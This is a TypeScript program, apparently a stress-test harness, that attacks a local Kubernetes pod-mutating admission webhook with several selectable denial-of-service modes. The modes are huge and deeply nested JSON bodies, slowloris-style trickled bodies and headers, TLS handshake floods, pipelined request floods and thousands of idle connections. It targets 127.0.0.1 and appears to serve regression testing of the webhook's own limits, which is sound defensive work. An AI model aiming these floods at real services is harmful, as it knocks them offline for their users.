import { once } from 'node:events';
import { connect as connectTcp } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect } from 'node:tls';
import type { TLSSocket } from 'node:tls';

/**
 * A program that attacks the webhook on a port of 127.0.0.1 without credentials until it is killed:
 * `webhook-attacker.ts values|slow|pieces|large-pieces|crumbs|heads|handshakes|in-advance|idle <port>`. It prints a
 * line once the attack is under way.
 */
const [attack = '', port = ''] = process.argv.slice(2);

async function open(): Promise<TLSSocket> {
  const socket = connect({ host: '127.0.0.1', port: Number(port), rejectUnauthorized: false });
  socket.on('error', () => undefined).on('data', () => undefined);
  const closed = new Promise((resolve) => socket.once('close', resolve));
  await Promise.race([once(socket, 'secureConnect').catch(() => undefined), closed]);
  return socket;
}

function head(length: number): string {
  return `POST /mutate-pods HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

const LABELS = '"labels":{"serving.kserve.io/inferenceservice":"sk","component":"predictor"}';
const review = (metadata: string, spec: string): Buffer =>
  Buffer.from(
    '{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u","kind":{"kind":"Pod"},' +
      `"operation":"CREATE","namespace":"default","object":{"metadata":{"name":"p",${LABELS}${metadata}},` +
      `"spec":{"containers":[{"name":"kserve-container"}]${spec}}}}}`,
  );
const many = (count: number, json: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => json(index)).join(',');
const MIB = 1024 * 1024;

/** Attacks that once ended or delayed the manager, and loads just within its limits. */
const bodies =
  attack !== 'values'
    ? []
    : [
        review('', `,"x":[${many(1.1 * MIB, () => '{}')}]`),
        review('', `,"x":[${many(1.1 * MIB, () => '[]')}]`),
        review('', `,"x":[${many(2.3 * MIB, () => '{}')}]`),
        review(`,"annotations":{${many(250_000, (at) => `"k${at}":""`)}}`, ''),
        review('', `,"volumes":[${many(160_000, (at) => `{"name":"v${at}"}`)}]`),
        review(`,"annotations":{${many(5000, (at) => `"k${at}":""`)}}`, ''),
        review('', `,"x":[${many(29_000, () => '{}')}]`),
        review('', `,"volumes":[{"name":"${'v'.repeat(3 * MIB)}"}]`),
      ];

async function largeBodies(): Promise<void> {
  for (const body of bodies) {
    const socket = await open();
    socket.write(head(body.length));
    socket.end(body);
    if (!socket.destroyed) await once(socket, 'close');
  }
}

/** Nearly all of the longest body, with a chunk from time to time. */
async function slowBody(): Promise<void> {
  const socket = await open();
  const length = Math.floor(3.4 * MIB);
  socket.write(head(length));
  for (let sent = 0; sent < length - 65_536 && !socket.destroyed; sent += 65_536) {
    socket.write(Buffer.alloc(65_536, 0x20));
    await delay(500);
  }
  while (!socket.destroyed) {
    socket.write(' ');
    await delay(1000);
  }
}

/** Of every four connections, one completes the TLS handshake and three never start it. */
async function idleConnection(index: number): Promise<void> {
  const socket = index % 4 === 0 ? await open() : connectTcp(Number(port), '127.0.0.1');
  socket.on('error', () => undefined);
  if (!socket.destroyed) await once(socket, 'close');
  await delay(500);
}

async function forever(count: number, each: (index: number) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      // Not all at once, because a kernel drops connections that arrive faster than they are accepted.
      await delay(index * 2);
      for (;;) await each(index).catch(() => undefined);
    }),
  );
}

/** A body with a chunk every 20 ms, so that its sender never seems to have stopped. */
async function body(piece: number): Promise<void> {
  const socket = await open();
  const length = Math.floor(3.4 * MIB);
  socket.write(head(length));
  for (let sent = 0; sent < length - piece && !socket.destroyed; sent += piece) {
    socket.write(Buffer.alloc(piece, 0x20));
    await delay(20);
  }
  if (!socket.destroyed) socket.destroy();
}

/** The same for a head. */
async function header(): Promise<void> {
  const socket = await open();
  socket.write('POST /mutate-pods HTTP/1.1\r\nHost: x\r\nX: ');
  while (!socket.destroyed) {
    socket.write('x');
    await delay(20);
  }
}

async function handshake(): Promise<void> {
  (await open()).destroy();
}

/** Fifty requests at once, without waiting for an answer. */
async function inAdvance(): Promise<void> {
  const socket = await open();
  while (!socket.destroyed) {
    socket.write(`${head(2)}{}`.repeat(50));
    await delay(1);
  }
}

const ATTACKS = new Map<
  string,
  { readonly senders: number; readonly each: (index: number) => Promise<void> }
>([
  ['values', { senders: 2, each: largeBodies }],
  ['slow', { senders: 80, each: slowBody }],
  ['pieces', { senders: 300, each: () => body(4096) }],
  ['large-pieces', { senders: 80, each: () => body(65_536) }],
  ['crumbs', { senders: 1500, each: () => body(1) }],
  ['heads', { senders: 1500, each: header }],
  ['handshakes', { senders: 64, each: handshake }],
  ['in-advance', { senders: 64, each: inAdvance }],
  ['idle', { senders: 4096, each: idleConnection }],
]);

const chosen = ATTACKS.get(attack);
if (chosen === undefined)
  throw new Error(`there is no attack ${attack}; there are ${[...ATTACKS.keys()].join(', ')}`);
process.stdout.write('attacking\n');
await forever(chosen.senders, chosen.each);
